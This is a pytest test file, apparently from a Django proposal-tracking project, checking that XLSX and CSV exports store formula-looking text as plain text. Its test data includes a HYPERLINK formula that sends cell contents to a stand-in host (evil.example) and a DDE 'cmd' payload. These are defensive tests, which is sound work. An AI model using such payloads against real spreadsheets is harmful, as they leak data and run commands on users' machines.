"""Exports write text as text: a proposal that looks like a formula never runs as one."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from sori.core.documents import add_sheet, workbook_bytes
from sori.core.exports import csv_text, xlsx_bytes
from sori.voices import services

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"클릭")'


def _cells(data: bytes) -> list[Any]:
    ws = load_workbook(io.BytesIO(data)).active
    return [cell for row in ws.iter_rows() for cell in row]


def test_an_xlsx_export_keeps_a_formula_looking_text_as_text() -> None:
    cells = _cells(xlsx_bytes("제안", ["내용", "건수"], [[ATTACK, 3], ["+cmd|' /C calc'!A0", 1]]))
    texts = {c.value: c.data_type for c in cells}
    assert texts[ATTACK] == "s" and texts["+cmd|' /C calc'!A0"] == "s"  # shown as written, not calculated
    assert texts[3] == "n"  # numbers stay numbers


def test_report_sheets_keep_text_as_text_too() -> None:
    wb = Workbook()
    add_sheet(wb, "회의", ["내용"], [[ATTACK]], first=True)
    cells = _cells(workbook_bytes(wb))
    assert any(c.value == ATTACK and c.data_type == "s" for c in cells)


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe() -> None:
    assert csv_text(ATTACK) == "'" + ATTACK
    assert csv_text("-1+2") == "'-1+2" and csv_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_text("GPU 12개월") == "GPU 12개월" and csv_text(12) == 12


@pytest.mark.django_db
def test_the_staff_proposal_export_carries_an_anonymous_formula_as_text(login: Any, staff: Any) -> None:
    # given a proposal whose words look like a formula
    services.proposal_record(text=ATTACK, actor=staff)
    # when staff export the proposal list
    response = login(staff).get(reverse("voices:proposal_list"), {"format": "xlsx"})
    # then the cell holds the words, stored as text
    cells = _cells(response.content)
    assert [c.data_type for c in cells if c.value == ATTACK] == ["s"]


@pytest.mark.django_db
def test_the_public_csv_escapes_a_formula_looking_title(staff: Any, client: Any, department: Any) -> None:
    p = services.proposal_record(text="GPU 사용기간 연장", actor=staff)
    demand = services.demand_create(title="=1+1 GPU 사용기간", proposal_ids=[p.id], actor=staff)
    services.demand_publish(demand=demand, published=True, actor=staff)
    body = client.get(reverse("public:tracker"), {"format": "csv"}).content.decode("utf-8-sig")
    titles = [row for row in csv.reader(io.StringIO(body)) if any("GPU 사용기간" in c for c in row)]
    assert titles and any(c == "'=1+1 GPU 사용기간" for c in titles[0])
